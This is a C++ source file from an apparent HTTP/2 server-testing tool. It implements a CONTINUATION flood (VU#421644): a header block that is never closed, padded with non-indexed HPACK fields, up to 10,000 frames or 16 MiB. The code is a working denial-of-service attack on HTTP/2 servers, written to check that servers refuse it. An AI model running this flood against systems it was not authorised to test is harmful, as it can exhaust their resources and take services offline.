// h2-continuation-flood (VU#421644): one request's HEADERS without END_HEADERS, then
// CONTINUATION frames that never end its header block, each carrying one more header
// field, until 10,000 frames or 16 MiB. A server that buffers or decodes the block without
// a bound grows with it; it must refuse the block (GOAWAY, or a close) instead.
#include "flood_steps.hpp"
#include "loiter/clients/h2/frames.hpp"
#include "loiter/clients/h2/hpack.hpp"

namespace loiter::clients {

namespace {

// An HPACK integer with an N-bit prefix (RFC 7541 5.1), its first byte's high bits `high`.
void put_integer(std::string& out, std::size_t value, int prefix_bits, std::uint8_t high) {
  const std::size_t most = (std::size_t{1} << prefix_bits) - 1;
  if (value < most) {
    out += static_cast<char>(high | value);
    return;
  }
  out += static_cast<char>(high | most);
  // Each turn emits 7 bits: bounded by the value's width.
  for (value -= most; value >= 128; value /= 128) out += static_cast<char>(0x80 | (value % 128));
  out += static_cast<char>(value);
}

// A literal header field without indexing, with a literal name (RFC 7541 6.2.2): the
// server's table stays as it was, so every field costs it its bytes again.
std::string literal_field(std::string_view name, std::size_t value_bytes) {
  std::string field;
  put_integer(field, 0, 4, 0x00);
  put_integer(field, name.size(), 7, 0x00);
  field += name;
  put_integer(field, value_bytes, 7, 0x00);
  field.append(value_bytes, 'a');
  return field;
}

awaitable<void> continuation_connection(Shared<FloodOptions> options, Slot slot) {
  auto connection =
      connection_for(co_await asio::this_coro::executor, *options, slot, kH2ContinuationFlood);
  const bool opened = co_await h2::open_flood(connection, *options, slot);
  if (!opened) co_return;
  // Once the block is open only CONTINUATION may follow (RFC 9113 6.10): a SETTINGS ACK sent
  // between them would be the client's protocol error, not the flood. It answers nothing.
  connection.speak_h2(/*answer_control=*/false);
  h2::Flood flood(connection, slot.record, *options, kFloodFrames);
  h2::Encoder encoder;
  const auto block = encoder.encode(
      h2::request_headers("GET", options->path, options->authority, options->fleet.tls != nullptr));
  const auto field = literal_field("x-flood", options->header_bytes);
  const auto frame = h2::continuation(1, field, /*end_headers=*/false);
  std::string batch = h2::headers(1, block, /*end_stream=*/true, /*end_headers=*/false);
  std::size_t frames = 1;
  std::size_t bytes = batch.size();
  // Each turn sends one batch: bounded by the flood's frames, its bytes and its time.
  while (flood.more() && bytes < kContinuationBytes) {
    for (; frames < flood.next_batch() && bytes < kContinuationBytes; ++frames) {
      batch += frame;
      bytes += frame.size();
    }
    const bool sent = co_await flood.send(batch, frames);
    if (!sent) break;
    batch.clear();
    frames = 0;
    co_await flood.read_now();
  }
  co_await flood.finish();
}

}  // namespace

void spawn_h2_continuation_flood(asio::io_context& io, const FloodOptions& options,
                                 std::vector<ConnectionRecord>& out) {
  h2::spawn_flood(io, options, &continuation_connection, out);
}

}  // namespace loiter::clients
